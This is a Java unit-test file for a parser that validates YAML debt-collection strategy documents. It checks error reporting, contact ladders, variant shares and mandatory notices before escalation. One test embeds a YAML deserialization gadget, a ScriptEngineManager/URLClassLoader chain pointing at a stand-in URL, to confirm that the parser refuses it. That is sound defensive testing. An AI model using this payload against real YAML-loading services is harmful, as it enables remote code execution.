package dev.arrears.strategy.document;

import dev.arrears.shared.FieldError;
import dev.arrears.strategy.ShippedTemplates;
import dev.arrears.strategy.document.StrategyDocument.Parsed;
import dev.arrears.strategy.domain.ActionKind;
import dev.arrears.strategy.domain.Offset;
import dev.arrears.strategy.domain.StrategyDefinition;
import dev.arrears.strategy.domain.StrategyDefinition.Step;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/** Reading and checking strategy documents: the definition read, and every kind of error with pointer and line. */
class StrategyDocumentTest {

    /** A valid document; tests replace one line (by its text) to break one rule. Line numbers are in comments. */
    static final String VALID = """
            strategy: telecom-test
            description: "A test strategy"
            priority: 50
            appliesTo: "account.productLine == 'TELECOM_POSTPAID'"
            segments:
              - name: small-balance
                when: "account.overdueAmount < 100.0 && score.grade in ['A','B']"
                ladder:
                  - { at: "due-3d", action: SMS, template: pre_due_reminder }
                  - { at: "due+7d", action: EMAIL, template: overdue_notice_bill, fallback: LETTER, required: true }
                  - { at: "due+15d", action: CALL_TASK, queue: general }
                  - { at: "due+30d", action: RESTRICT_SERVICE, level: soft }
                  - { at: "due+60d", action: PLACE_WITH_AGENCY, agency: default }
                variants:
                  - { name: champion, share: 80 }
                  - name: sms-first
                    share: 10
                    ladder:
                      - { at: "due+1d", action: SMS, template: overdue_notice }
                  - { name: control, share: 10, control: true }
              - name: everyone
                ladder:
                  - { at: "open+0d", action: LETTER, template: overdue_notice }
                  - { at: "open+5d", action: CALL_TASK, manager: assigned }
            stopWhen: "case.promiseActive || case.disputeOpen || account.overdueAmount <= 0.0"
            """;

    static Parsed parse(String yaml) {
        return StrategyDocument.parse(yaml, new ShippedTemplates());
    }

    /** Returns VALID with one exact piece of text replaced (which must occur once). */
    static String with(String from, String to) {
        assertThat(VALID.split(java.util.regex.Pattern.quote(from), -1)).as("occurrences of " + from).hasSize(2);
        return VALID.replace(from, to);
    }

    @Test
    void validDocument_readsIntoTheDefinition() {
        Parsed parsed = parse(VALID);
        assertThat(parsed.errors()).isEmpty();
        StrategyDefinition d = parsed.definition();
        assertThat(d.name()).isEqualTo("telecom-test");
        assertThat(d.description()).isEqualTo("A test strategy");
        assertThat(d.priority()).isEqualTo(50);
        assertThat(d.appliesTo()).isEqualTo("account.productLine == 'TELECOM_POSTPAID'");
        assertThat(d.stopWhen()).startsWith("case.promiseActive");
        assertThat(d.segments()).extracting(StrategyDefinition.Segment::name).containsExactly("small-balance",
                "everyone");
        List<Step> ladder = d.segments().getFirst().ladder();
        assertThat(ladder).hasSize(5);
        assertThat(ladder.get(0)).isEqualTo(new Step(Offset.parse("due-3d"), ActionKind.SMS, "pre_due_reminder",
                null, null, null, null, null, false));
        assertThat(ladder.get(1).fallback()).isEqualTo(ActionKind.LETTER);
        assertThat(ladder.get(1).required()).isTrue();
        assertThat(ladder.get(2).queue()).isEqualTo("general");
        assertThat(ladder.get(3).level()).isEqualTo("soft");
        assertThat(ladder.get(4).agency()).isEqualTo("default");
        var variants = d.segments().getFirst().variants();
        assertThat(variants).extracting(StrategyDefinition.Variant::name)
                .containsExactly("champion", "sms-first", "control");
        assertThat(variants.get(0).ladder()).isNull();
        assertThat(variants.get(1).ladder()).hasSize(1);
        assertThat(variants.get(2).control()).isTrue();
        assertThat(d.segments().get(1).when()).isNull();
        assertThat(d.segments().get(1).ladder().get(1).manager()).isEqualTo("assigned");
    }

    @Test
    void leftOutOptionalKeys_takeTheirDefaults() {
        Parsed parsed = parse("""
                strategy: minimal
                segments:
                  - name: all
                    ladder:
                      - { at: "due+1d", action: SMS, template: overdue_notice }
                """);
        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.definition().priority()).isEqualTo(StrategyDocument.DEFAULT_PRIORITY);
        assertThat(parsed.definition().appliesTo()).isNull();
        assertThat(parsed.definition().stopWhen()).isNull();
        assertThat(parsed.definition().segments().getFirst().variants()).isEmpty();
    }

    static Stream<Arguments> singleErrors() {
        return Stream.of(
                // shape: unknown keys name the allowed ones
                Arguments.of(with("priority: 50", "priorty: 50"), "/priorty", 3,
                        "unknown key 'priorty'; allowed: strategy, description, priority, appliesTo, segments, stopWhen"),
                Arguments.of(with("action: SMS, template: pre_due_reminder }", "action: SMS, tmpl: pre_due_reminder }"),
                        "/segments/0/ladder/0/tmpl", 9, "unknown key 'tmpl'"),
                Arguments.of(with("  - name: everyone", "  - name: everyone\n    whn: \"true\""),
                        "/segments/1/whn", 22, "unknown key 'whn'; allowed: name, when, ladder, variants"),
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion, share: 80, weight: 1 }"),
                        "/segments/0/variants/0/weight", 15, "allowed: name, share, ladder, control"),
                Arguments.of(with("priority: 50", "priority: 50\npriority: 60"), "/priority", 4, "duplicate key"),
                // wrong types
                Arguments.of(with("priority: 50", "priority: high"), "/priority", 3,
                        "must be a whole number from 0 to 9999, not 'high'"),
                Arguments.of(with("priority: 50", "priority: 12000"), "/priority", 3, "not 12000"),
                Arguments.of(with("strategy: telecom-test", "strategy: [a, b]"), "/strategy", 1,
                        "must be text, not a list"),
                Arguments.of(with("fallback: LETTER, required: true }", "fallback: LETTER, required: maybe }"),
                        "/segments/0/ladder/1/required", 10, "must be true or false"),
                Arguments.of(with("      - { at: \"due-3d\", action: SMS, template: pre_due_reminder }",
                        "      - due-3d SMS"), "/segments/0/ladder/0", 9, "must be a mapping of at, action"),
                Arguments.of("strategy: x1\nsegments:\n  - name: all\n    ladder: SMS\n", "/segments/0/ladder", 4,
                        "must be a list of steps"),
                Arguments.of("strategy: x1\nsegments:\n  - name: all\n", "/segments/0/ladder", 3, "is required"),
                Arguments.of("strategy: x1\nsegments:\n  - name: all\n    ladder: []\n    variants: []\n",
                        "/segments/0/variants", 5, "needs at least one variant, or leave variants out"),
                // missing required keys
                Arguments.of(with("strategy: telecom-test\n", ""), "/strategy", 1, "is required"),
                Arguments.of(with("{ at: \"due+15d\", action: CALL_TASK, queue: general }",
                        "{ action: CALL_TASK, queue: general }"), "/segments/0/ladder/2/at", 11, "is required"),
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion }"),
                        "/segments/0/variants/0/share", 15, "is required"),
                // names
                Arguments.of(with("strategy: telecom-test", "strategy: Telecom Test"), "/strategy", 1,
                        "'Telecom Test' is not a strategy name"),
                Arguments.of(with("name: everyone", "name: every_one"), "/segments/1/name", 21, "is not a name"),
                // offsets
                Arguments.of(with("at: \"due+15d\"", "at: \"due+15\""), "/segments/0/ladder/2/at", 11,
                        "an offset looks like due-3d, due+7d or open+2d, not 'due+15'"),
                Arguments.of(with("at: \"open+5d\"", "at: \"open-5d\""), "/segments/1/ladder/1/at", 24,
                        "a case cannot act before it opens"),
                Arguments.of(with("at: \"due+60d\"", "at: \"due+2000d\""), "/segments/0/ladder/4/at", 13,
                        "more than 1100 days"),
                // actions and their parameters
                Arguments.of(with("action: CALL_TASK, queue: general", "action: PHONE, queue: general"),
                        "/segments/0/ladder/2/action", 11, "unknown action 'PHONE'; one of SMS, EMAIL, PUSH, LETTER"),
                Arguments.of(with("fallback: LETTER", "fallback: FAX"), "/segments/0/ladder/1/fallback", 10,
                        "unknown action 'FAX'"),
                Arguments.of(with("fallback: LETTER", "fallback: EMAIL"), "/segments/0/ladder/1/fallback", 10,
                        "must be another channel than the step's own (EMAIL)"),
                Arguments.of(with("fallback: LETTER", "fallback: RESTRICT_SERVICE"), "/segments/0/ladder/1/fallback",
                        10, "must be a contact action"),
                Arguments.of(with("level: soft }", "level: soft, fallback: SMS }"), "/segments/0/ladder/3/fallback",
                        12, "only a contact step"),
                Arguments.of(with("action: SMS, template: pre_due_reminder }", "action: SMS }"),
                        "/segments/0/ladder/0/template", 9, "SMS needs a template"),
                Arguments.of(with("template: pre_due_reminder }", "template: pre_due_remindr }"),
                        "/segments/0/ladder/0/template", 9, "unknown template 'pre_due_remindr' for SMS; known: "),
                Arguments.of(with("template: overdue_notice_bill, fallback: LETTER",
                        "template: payment_link, fallback: LETTER"), "/segments/0/ladder/1/template", 10,
                        "unknown template 'payment_link' for LETTER (the fallback)"),
                Arguments.of(with("action: CALL_TASK, queue: general }", "action: CALL_TASK, template: x, queue: general }"),
                        "/segments/0/ladder/2/template", 11, "applies to SMS, EMAIL, PUSH and LETTER steps"),
                Arguments.of(with("action: CALL_TASK, queue: general }", "action: CALL_TASK }"),
                        "/segments/0/ladder/2/queue", 11, "CALL_TASK needs a queue or a manager"),
                Arguments.of(with("action: RESTRICT_SERVICE, level: soft }", "action: RESTRICT_SERVICE }"),
                        "/segments/0/ladder/3/level", 12, "RESTRICT_SERVICE needs a level: soft or hard"),
                Arguments.of(with("level: soft }", "level: medium }"), "/segments/0/ladder/3/level", 12,
                        "must be soft or hard, not 'medium'"),
                Arguments.of(with("agency: default }", "agency: default, queue: general }"),
                        "/segments/0/ladder/4/queue", 13, "applies to CALL_TASK steps only, not PLACE_WITH_AGENCY"),
                Arguments.of(with("action: SMS, template: pre_due_reminder }",
                        "action: SMS, template: pre_due_reminder, level: hard }"), "/segments/0/ladder/0/level", 9,
                        "applies to RESTRICT_SERVICE steps only"),
                // duplicates and reachability
                Arguments.of(with("name: everyone", "name: small-balance"), "/segments/1/name", 21,
                        "duplicate segment name 'small-balance' (also /segments/0)"),
                Arguments.of(with("- { name: control, share: 10, control: true }",
                        "- { name: champion, share: 10, control: true }"), "/segments/0/variants/2/name", 20,
                        "duplicate variant name 'champion' (also /segments/0/variants/0)"),
                Arguments.of(with("  - name: everyone\n", "  - name: everyone\n    when: \"true\"\n")
                                .replace("  - name: small-balance\n    when: \"account.overdueAmount < 100.0 && score.grade in ['A','B']\"\n",
                                        "  - name: small-balance\n"),
                        "/segments/1", 20, "never reached: segment 'small-balance' (/segments/0) has no when"),
                // shares and control arms
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion, share: 70 }"),
                        "/segments/0/variants", 15, "variant shares must add up to 100, not 90"),
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion, share: 80.5 }"),
                        "/segments/0/variants/0/share", 15, "must be a whole number from 0 to 100, not '80.5'"),
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion, share: -20 }"),
                        "/segments/0/variants/0/share", 15, "must be a whole number from 0 to 100, not -20"),
                Arguments.of(with("{ name: champion, share: 80 }", "{ name: champion, share: 80, control: true }"),
                        "/segments/0/variants/2/control", 20, "a segment has at most one control arm"),
                // CEL
                Arguments.of(with("account.overdueAmount < 100.0 &&", "account.overdueAmount < 'x' &&"),
                        "/segments/0/when", 7, "CEL error at column 23 of the condition: found no matching "
                                + "overload for '_<_' applied to '(double, string)'"),
                Arguments.of(with("\"account.productLine == 'TELECOM_POSTPAID'\"", "\"account.product == 'X'\""),
                        "/appliesTo", 4, "unknown fact 'account.product'"),
                Arguments.of(with("|| account.overdueAmount <= 0.0\"", "|| account.daysPastDue\""), "/stopWhen",
                        25, "found no matching overload for '_||_'"),
                // YAML itself
                Arguments.of(with("  - name: everyone", "  - name: [everyone"), "", 22, "not valid YAML"),
                Arguments.of("", "", 1, "the document is empty"),
                Arguments.of("# nothing but a comment\n", "", 1, "the document is empty"),
                Arguments.of("- a\n- b\n", "", 1, "must be a mapping of strategy"),
                Arguments.of("strategy: x1\nsegments: []\n", "/segments", 2, "needs at least one segment"),
                Arguments.of("a: 1\n---\nb: 2\n", "", 2, "expected a single document"));
    }

    @ParameterizedTest(name = "[{index}] {1} line {2}: {3}")
    @MethodSource("singleErrors")
    void brokenRule_isReportedWithPointerAndLine(String yaml, String pointer, int line, String detail) {
        Parsed parsed = parse(yaml);
        assertThat(parsed.definition()).isNull();
        assertThat(parsed.valid()).isFalse();
        assertThat(parsed.errors()).as(parsed.errors().toString())
                .anySatisfy(e -> {
                    assertThat(e.pointer()).isEqualTo(pointer);
                    assertThat(e.line()).isEqualTo(line);
                    assertThat(e.detail()).contains(detail);
                });
    }

    @Test
    void everyProblem_isReportedAtOnce() {
        String yaml = VALID.replace("priority: 50", "priority: x")
                .replace("at: \"due+15d\"", "at: \"15 days\"")
                .replace("template: pre_due_reminder", "template: nope")
                .replace("{ name: champion, share: 80 }", "{ name: champion, share: 81 }")
                .replace("case.promiseActive ||", "case.promised ||");
        List<FieldError> errors = parse(yaml).errors();
        assertThat(errors).extracting(FieldError::pointer).containsExactlyInAnyOrder("/priority",
                "/segments/0/ladder/2/at", "/segments/0/ladder/0/template", "/segments/0/variants", "/stopWhen");
        assertThat(errors).extracting(FieldError::line).containsExactlyInAnyOrder(3, 11, 9, 15, 25);
        assertThat(errors).allSatisfy(e -> assertThat(e.column()).isNull());
    }

    @Test
    void celErrorOnTheThirdLineOfABlockCondition_isReportedOnItsDocumentLine() {
        String yaml = """
                strategy: block-cel
                segments:
                  - name: all
                    when: |
                      account.overdueAmount > 10.0
                        && score.grade in ['A', 'B']
                        && account.bucket > 3
                    ladder:
                      - { at: "due+1d", action: SMS, template: overdue_notice }
                """;
        List<FieldError> errors = parse(yaml).errors();
        assertThat(errors).hasSize(1);
        assertThat(errors.getFirst().pointer()).isEqualTo("/segments/0/when");
        assertThat(errors.getFirst().line()).isEqualTo(7);
        assertThat(errors.getFirst().detail()).startsWith("CEL error at line 3, column 21 of the condition: ")
                .contains("'(string, int)'");
    }

    @Test
    void celErrorInAFoldedCondition_isReportedOnTheLineAfterTheKey() {
        String yaml = """
                strategy: folded-cel
                segments:
                  - name: all
                    when: >
                      account.overdueAmount > 'ten'
                    ladder:
                      - { at: "due+1d", action: SMS, template: overdue_notice }
                """;
        FieldError error = parse(yaml).errors().getFirst();
        assertThat(error.pointer()).isEqualTo("/segments/0/when");
        assertThat(error.line()).isEqualTo(5);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
            account.overdueAmount < 100         | true
            account.daysPastDue > 3.5           | true
            score.grade in ['A', 'B']           | true
            'SMS' in customer.channels          | true
            account.daysPastDue                 | false
            account.balance.value > 1           | false
            history.complaints > 0              | false
            """)
    void conditionTypeCheck_decidesValidity(String condition, boolean valid) {
        String yaml = VALID.replace("account.overdueAmount < 100.0 && score.grade in ['A','B']", condition);
        assertThat(parse(yaml).valid()).as(parse(yaml).errors().toString()).isEqualTo(valid);
    }

    @ParameterizedTest(name = "{0} before {1} {2}: {3}")
    @CsvSource(delimiter = '|', textBlock = """
            LETTER     | due+25d | RESTRICT_SERVICE  | due+30d | true
            EMAIL      | due+26d | RESTRICT_SERVICE  | due+30d | false
            SMS        | due-3d  | PLACE_WITH_AGENCY | due+2d  | true
            SMS        | due-3d  | PLACE_WITH_AGENCY | due+1d  | false
            PUSH       | due+1d  | RESTRICT_SERVICE  | due+30d | false
            LETTER     | open+0d | LEGAL_REVIEW      | open+5d | true
            LETTER     | open+1d | LEGAL_REVIEW      | open+5d | false
            LETTER     | due+1d  | LEGAL_REVIEW      | open+30d| false
            LETTER     | open+1d | LEGAL_REVIEW      | due+30d | false
            LETTER     | due+40d | LEGAL_REVIEW      | due+30d | false
            """)
    void escalation_needsAWrittenNoticeWithTheSameAnchorFiveDaysEarlier(ActionKind notice, String noticeAt,
                                                                          ActionKind escalation, String at,
                                                                          boolean valid) {
        String extra = escalation == ActionKind.RESTRICT_SERVICE ? ", level: soft" : "";
        String template = notice == ActionKind.PUSH ? "payment_link" : "overdue_notice";
        String yaml = """
                strategy: notice-rule
                segments:
                  - name: all
                    ladder:
                      - { at: "%s", action: %s, template: %s }
                      - { at: "%s", action: %s%s }
                """.formatted(noticeAt, notice, template, at, escalation, extra);
        Parsed parsed = parse(yaml);
        assertThat(parsed.valid()).as(parsed.errors().toString()).isEqualTo(valid);
        if (!valid) {
            assertThat(parsed.errors()).singleElement().satisfies(e -> {
                assertThat(e.pointer()).isEqualTo("/segments/0/ladder/1");
                assertThat(e.line()).isEqualTo(6);
                assertThat(e.detail()).contains(escalation + " at " + at + " needs a written notice");
            });
        }
    }

    @Test
    void variantLadder_isHeldToTheNoticeRuleToo() {
        String yaml = with("      - { at: \"due+1d\", action: SMS, template: overdue_notice }",
                "      - { at: \"due+1d\", action: SMS, template: overdue_notice }\n"
                        + "          - { at: \"due+3d\", action: PLACE_WITH_AGENCY }");
        List<FieldError> errors = parse(yaml).errors();
        assertThat(errors).singleElement().satisfies(e -> {
            assertThat(e.pointer()).isEqualTo("/segments/0/variants/1/ladder/1");
            assertThat(e.line()).isEqualTo(20);
            assertThat(e.detail()).contains("at due-2d or earlier");
        });
    }

    @Test
    void controlArm_withNoRequiredNoticeBeforeARequiredEscalation_isRefused() {
        String yaml = VALID.replace("fallback: LETTER, required: true }", "fallback: LETTER }")
                .replace("action: RESTRICT_SERVICE, level: soft }", "action: RESTRICT_SERVICE, level: soft, "
                        + "required: true }");
        List<FieldError> errors = parse(yaml).errors();
        assertThat(errors).singleElement().satisfies(e -> {
            assertThat(e.pointer()).isEqualTo("/segments/0/variants/2");
            assertThat(e.line()).isEqualTo(20);
            assertThat(e.detail()).contains("control arm's ladder").contains("RESTRICT_SERVICE at due+30d");
        });
    }

    @Test
    void controlArm_withoutAnyPostDueNotice_isRefused() {
        String yaml = """
                strategy: control-empty
                segments:
                  - name: all
                    ladder:
                      - { at: "due-3d", action: SMS, template: pre_due_reminder }
                      - { at: "due+3d", action: CALL_TASK, queue: general }
                    variants:
                      - { name: champion, share: 90 }
                      - { name: control, share: 10, control: true }
                """;
        assertThat(parse(yaml).errors()).singleElement().satisfies(e -> {
            assertThat(e.pointer()).isEqualTo("/segments/0/variants/1");
            assertThat(e.detail()).contains("a control arm still gets the minimum notices");
        });
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            100                    | true
            50, 50                 | true
            45, 45, 10             | true
            0, 100                 | true
            60, 30                 | false
            60, 50                 | false
            34, 33, 33             | true
            """)
    void variantShares_mustSumToExactlyOneHundred(String shares, boolean valid) {
        StringBuilder variants = new StringBuilder();
        String[] parts = shares.split(",\\s*");
        for (int i = 0; i < parts.length; i++) {
            variants.append("      - { name: arm-").append(i).append(", share: ").append(parts[i]).append(" }\n");
        }
        String yaml = """
                strategy: shares
                segments:
                  - name: all
                    ladder:
                      - { at: "due+1d", action: SMS, template: overdue_notice }
                    variants:
                """ + variants;
        assertThat(parse(yaml).valid()).isEqualTo(valid);
    }

    @Test
    void templateCheck_isSkippedWithoutACatalogue() {
        String yaml = with("template: pre_due_reminder }", "template: renamed_since }");
        assertThat(parse(yaml).valid()).isFalse();
        assertThat(StrategyDocument.parse(yaml, null).valid()).isTrue();
    }

    @Test
    void yamlTags_areNeverConstructed() {
        String yaml = "strategy: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://example.invalid/\"]]]]\nsegments: []\n";
        Parsed parsed = parse(yaml);
        assertThat(parsed.definition()).isNull();
        assertThat(parsed.errors()).singleElement().satisfies(e -> {
            assertThat(e.pointer()).isEmpty();
            assertThat(e.detail()).contains("not valid YAML").contains("tag");
        });
    }

    @Test
    void keysWithSlashes_areEscapedInPointers() {
        Parsed parsed = parse(VALID.replace("priority: 50", "a/b~c: 1"));
        assertThat(parsed.errors()).singleElement().extracting(FieldError::pointer).isEqualTo("/a~1b~0c");
    }
}
